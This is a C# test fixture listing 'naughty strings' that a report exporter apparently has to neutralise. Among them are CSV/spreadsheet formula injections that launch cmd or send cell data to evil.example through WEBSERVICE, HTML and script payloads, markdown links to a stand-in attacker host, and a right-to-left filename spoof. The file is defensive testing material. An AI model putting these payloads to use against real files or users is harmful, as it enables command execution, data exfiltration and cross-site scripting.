namespace TikTokBan.Tests.Reports;

/// <summary>Values that a source may hold and that some program would take for more than text.</summary>
internal static class NaughtyStrings
{
    public static IReadOnlyList<string> All { get; } =
    [
        "=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1:A9)", "=HYPERLINK(\"https://evil.example\",\"click\")", "=WEBSERVICE(\"https://evil.example/\"&A1)",
        "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1", "\r=1", "\n=1", "  =1", "\u00A0=1", "\uFF1D1", "\uFF0B1", "\uFF0D1", "\uFF201", "'=1", "\"=1\"", "\";=1", "\",=1", ";=1", ",=1",
        "a\"b", "a,b", "a;b", "a\r\nb", "a\nb", "a\rb", "\"", "\"\"", "'", "''", "]]>", "<b>x</b>", "<script>alert(1)</script>", "<!-- x -->", "&amp;", "&lt;", "&#61;1",
        "_x0041_", "_x000D_", "_x003D_1+1", "__x0041__", "\u0000", "\u0001a", "\u001F", "\u007F", "\uFFFE", "\uFFFF", "\uD800", "a\uDC00", "\u202Egnp.exe", "\u200Bx", "\uFEFFx",
        "[x](https://evil.example)", "![x](https://evil.example/p.png)", "<https://evil.example>", "https://evil.example", "www.evil.example", "a@evil.example", "**x**", "__x__", "`x`", "```", "# x", "> x",
        "- x", "1. x", "| a | b |", "|---|", "a|b", "~~x~~", "\\", "\\*x*", "[x]: https://evil.example", "<img src=x onerror=alert(1)>", "&copy;", "$x$", "{{x}}", "${x}", "%USERPROFILE%",
        "001234", "1e5", "TRUE", "2023-03-10", "1/2", "🙂", "👩\u200D💻", "e\u0301", "مرحبا", new string('x', 40_000),
    ];
}
